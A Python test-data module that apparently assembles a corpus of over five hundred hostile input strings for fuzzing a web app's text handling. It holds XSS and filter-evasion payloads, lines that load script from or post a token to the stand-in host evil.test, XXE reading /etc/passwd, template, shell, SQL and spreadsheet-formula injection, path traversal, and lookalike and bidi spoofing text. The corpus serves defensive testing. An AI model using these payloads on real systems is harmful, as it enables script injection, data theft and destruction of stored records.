"""More than five hundred texts that would be more than text, or look like another, if anybody let them."""

from itertools import product
from typing import Final

TAGS: Final = (
    *("script", "img", "svg", "iframe", "object", "embed", "video", "audio", "body", "details", "marquee", "math"),
    *("form", "input", "button", "a", "base", "link", "meta", "style", "template", "textarea", "title", "table"),
)
HANDLERS: Final = (
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "ontoggle",
    "onmouseover",
    "onpointerenter",
    "onanimationstart",
)
SCRIPTS: Final = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "</script><script>alert(1)</script>",
    "<script type=module>import('//evil.test')</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<script>alert(1)//",
    "<<script>alert(1)//<</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
    "‹script›alert(1)‹/script›",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)
MARKUP: Final = (
    "--><img src=x onerror=alert(1)>",
    "]]><img src=x onerror=alert(1)>",
    "</title><img src=x onerror=alert(1)>",
    "</style><img src=x onerror=alert(1)>",
    "</textarea><img src=x onerror=alert(1)>",
    "</template><img src=x onerror=alert(1)>",
    "</noscript><img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "`><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml,x#x>",
    "<svg><foreignObject><iframe srcdoc=x></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<img src='http://evil.test/pixel.gif'>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<base href=//evil.test/>",
    "<form action=//evil.test><input name=token>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<img srcset='x 1x' onerror=alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
    "<isindex action=javascript:alert(1)>",
    "<plaintext>",
    "<!--",
    "<![CDATA[x]]>",
    "<?xml version=1.0?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
)
ENTITIES: Final = (
    "&lt;script&gt;",
    "&#60;script&#62;",
    "&#x3c;script&#x3e;",
    "&amp;lt;b&amp;gt;",
    "&colon;",
    "&Tab;x",
    "&#0;",
    "&nbsp;x",
)
URLS: Final = (
    *(
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "javascript&colon;alert(1)",
        "java\x01script:alert(1)",
        "vbscript:x",
    ),
    *(
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD4=",
        "blob:null/x",
        "file:///etc/passwd",
    ),
    *(
        "//evil.test",
        "https://evil.test/",
        "http://127.0.0.1:22/",
        "ws://evil.test",
        "view-source:x",
        "\\\\evil.test\\share",
    ),
)
TEMPLATES: Final = (
    *(
        "{{7*7}}",
        "${7*7}",
        "${alert(1)}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{% debug %}",
        "[[7*7]]",
        "{{constructor.constructor('x')()}}",
    ),
    *("%s%s%n", "{0}", "{found}", "{name!r}", "{.__class__}", "$(id)", "`id`", "; id", "| id", "&& id", "$HOME", "%00"),
    *(
        '#import "x.typ"',
        '#read("/etc/passwd")',
        '#eval("1")',
        "$x^2$",
        "@cite",
        "\\input{x}",
        "*bold* _it_",
        "= heading",
    ),
    *('=HYPERLINK("http://evil.test")', "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|'/c calc'!A1", "\t=1+1", "\r=1+1"),
    *("' OR '1'='1", "'; DROP TABLE records;--", '" OR ""="', "1;--", "x'||'y", "$ne", '{"$gt":""}', "*)(uid=*"),
    *(
        "../../etc/passwd",
        "..\\..\\x",
        "/etc/passwd",
        "C:\\x",
        "x.csv/../../y",
        "CON",
        "sale.toml",
        ".",
        "..",
        "~",
        "x\x00.csv",
    ),
    *(
        "__proto__",
        "constructor",
        "prototype",
        "toString",
        "null",
        "undefined",
        "NaN",
        "true",
        "[object Object]",
        "-0",
        "1e999",
    ),
)
BIDI: Final = (
    "\u202a",
    "\u202b",
    "\u202c",
    "\u202d",
    "\u202e",
    "\u2066",
    "\u2067",
    "\u2068",
    "\u2069",
    "\u200e",
    "\u200f",
    "\u061c",
)
UNSEEN: Final = (
    *(
        "\u200b",
        "\u200c",
        "\u200d",
        "\u2060",
        "\u2061",
        "\u2064",
        "\ufeff",
        "\xad",
        "\u034f",
        "\u180e",
        "\u115f",
        "\u1160",
    ),
    *(
        "\u3164",
        "\uffa0",
        "\u2800",
        "\ufe00",
        "\ufe0f",
        "\U000e0100",
        "\U000e0041",
        "\U000e0001",
        "\u2028",
        "\u2029",
        "\u17b4",
    ),
)
CONTROLS: Final = tuple(map(chr, (*range(0x20), 0x7F, *range(0x80, 0xA0))))
LOOKALIKES: Final = (
    *(
        "豫Н88888",
        "豫Η88888",
        "豫H８8888",
        "豫HO8888",
        "豫HІ8888",
        "аuctioneer",
        "ｌｕｏｃｈｕｉ",
        "раypal",
        "𝐇𝟖𝟖𝟖𝟖𝟖",
        "Ⅷ",
        "⑧",
    ),
    *("拍\u2f00", "\uf900拍", "e\u0301", "\u00e9", "\u1100\u1161\u11a8", "Å", "ﬁ", "½", "㎏", "﷽"),
)
PILES: Final = tuple("拍" + mark * count for mark in "\u0300\u0323\u0489\u20dd" for count in (1, 5, 20, 60))
LONG: Final = tuple(unit * count for unit in ("A", "落", "<b>", "🔨", "\u202e", "&") for count in (121, 1_000, 60_000))
OTHERS: Final = (
    "\ud800",
    "\udfff",
    "\ue000",
    "\U000f0000",
    "\ufffe",
    "\ufffd",
    "🔨",
    "👩‍⚖️",
    "🇨🇳",
    "",
    " ",
    "\u3000",
    "　拍　",
)


def _marked() -> list[str]:
    """A tag with each handler, in the spellings that get past those who look for others."""
    spellings = ("<{t} {h}=alert(1)>", "<{t}/{h}=alert(1)//", '<{t} x="" {h}="alert`1`">')
    handled = [form.format(t=tag, h=handler) for tag, handler in product(TAGS, HANDLERS) for form in spellings]
    return handled[:: len(handled) // 170]


def _hidden() -> list[str]:
    """Each character that is not seen, in the middle and at either end."""
    return [form.format(each) for each in (*BIDI, *UNSEEN) for form in ("拍{}卖", "{}卖", "拍{}")]


def _all() -> list[str]:
    sources = (
        *(SCRIPTS, MARKUP, ENTITIES, URLS, TEMPLATES, LOOKALIKES, PILES, LONG, OTHERS),
        tuple(f"拍{each}卖" for each in CONTROLS),
        tuple(_hidden()),
        tuple(_marked()),
    )
    return list(dict.fromkeys(text for source in sources for text in source))


PAYLOADS: Final = tuple(_all())
SHOWN: Final = (
    *(*SCRIPTS[:3], *MARKUP[2:8], *MARKUP[12:14], *MARKUP[17:20], *MARKUP[22:23], MARKUP[25]),
    *(*ENTITIES[:2], URLS[0], URLS[5], *TEMPLATES[:3], "__proto__"),
)
"""Those that are put before a browser."""
